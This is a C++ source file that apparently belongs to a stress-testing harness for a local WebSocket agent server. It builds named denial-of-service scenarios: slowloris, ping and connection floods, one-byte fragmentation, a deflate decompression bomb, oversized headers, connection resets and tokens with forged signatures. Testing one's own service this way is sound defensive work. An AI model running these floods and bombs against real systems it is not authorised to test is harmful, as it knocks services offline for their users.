#include "scripts.hpp"

#include "client.hpp"
#include "frames.hpp"

#include <zlib.h>

#include <stdexcept>
#include <string>

namespace attack {
namespace {

using namespace std::chrono_literals;

std::string upgrade(const std::string& token, std::string_view more = "") {
    std::string headers = token.empty() ? "" : "Authorization: Bearer " + token + "\r\n";
    return load::upgrade_request("/", headers.append(more));
}

std::string half(const std::string& text) { return text.substr(0, text.size() / 2); }

/// Of the right form, and signed by somebody else.
std::string forged(std::string token) {
    const std::size_t signature = token.rfind('.') + 1;
    if (signature < token.size()) token[signature] = token[signature] == 'A' ? 'B' : 'A';
    return token;
}

std::string frame(unsigned opcode, std::string_view payload) {
    std::string out;
    load::append_masked_frame(out, opcode, payload);
    return out;
}

/// One text of that size, in frames of one byte.
std::string in_fragments(std::size_t size) {
    constexpr char final = '\x80';
    std::string out;
    for (std::size_t i = 0; i < size; ++i) {
        std::string one = frame(i == 0 ? load::text : 0, "x");
        if (i + 1 < size) one[0] = static_cast<char>(one[0] & ~final);
        out += one;
    }
    return out;
}

/// That many zeros as one compressed message (RFC 7692 §7.2.1).
std::string bomb(std::size_t size) {
    z_stream stream{};
    if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error{"zlib"};
    std::string zeros(size, '\0'), out(deflateBound(&stream, size) + 16, '\0');
    stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
    stream.avail_in = static_cast<uInt>(zeros.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    deflate(&stream, Z_SYNC_FLUSH);
    out.resize(stream.total_out - 4);
    deflateEnd(&stream);
    return frame(2U | load::compressed, out);
}

std::string calls(std::size_t count) {
    std::string out;
    for (std::size_t id = 1; id <= count; ++id)
        out += frame(load::text, R"({"type":"call","method":"agents.list","id":)" + std::to_string(id) + "}");
    return out;
}

std::string times(std::size_t count, const std::string& text) {
    std::string out;
    for (std::size_t i = 0; i < count; ++i) out += text;
    return out;
}

}  // namespace

Script script(std::string_view name, const std::string& token) {
    const std::string good = upgrade(token);
    const std::string deflating = upgrade(token, "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n");
    const std::string subscribe = frame(load::text, R"({"type":"subscribe","topic":"agents.*"})");
    const std::string start = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    const Script scripts[] = {
        {.name = "slowloris", .connections = 1'000, .openings = {good}, .each_byte = 100ms},
        {.name = "slowloris-one-address", .connections = 1'000, .from = From::one, .openings = {good}, .each_byte = 100ms},
        {.name = "half-open", .connections = 500, .openings = {"", half(good)}},
        {.name = "slow-readers", .connections = 100, .openings = {good}, .once = subscribe, .reads = false, .receive_buffer = 4096},
        // As many calls as a client may make at once, none of whose answers is read.
        {.name = "slow-callers",
         .connections = 100,
         .openings = {good},
         .once = subscribe + calls(90),
         .reads = false,
         .receive_buffer = 4096},
        {.name = "ping-flood", .connections = 100, .openings = {good}, .endless = times(500, frame(load::ping, std::string(125, 'p')))},
        {.name = "fragments", .connections = 100, .openings = {good}, .endless = in_fragments(60'000)},
        // What inflates to all that a message may have, and then what inflates to far more.
        {.name = "bomb", .connections = 10, .openings = {deflating}, .once = bomb(65'536) + bomb(32U << 20U)},
        {.name = "flood-one-address", .connections = 1'000, .from = From::one, .openings = {good}},
        {.name = "flood-many", .connections = 1'000, .openings = {upgrade("")}},
        {.name = "flood-one-network", .connections = 1'000, .from = From::network, .openings = {good}},
        {.name = "guessing-one-address", .connections = 50, .from = From::one, .openings = {upgrade(forged(token))}},
        {.name = "guessing-many", .connections = 50, .openings = {upgrade(forged(token))}},
        {.name = "huge-headers",
         .connections = 50,
         .openings = {start + "X-Long: " + std::string(100'000, 'x'), start + times(10'000, "X: y\r\n"),
                      "GET /" + std::string(100'000, 'x')}},
        {.name = "resets", .connections = 100, .openings = {"", half(good), good}, .resets = true},
        {.name = "descriptors", .connections = 1'000, .openings = {""}},
    };
    for (const Script& one : scripts)
        if (one.name == name) return one;
    throw std::invalid_argument{"there is no attack \"" + std::string{name} + '"'};
}

}  // namespace attack
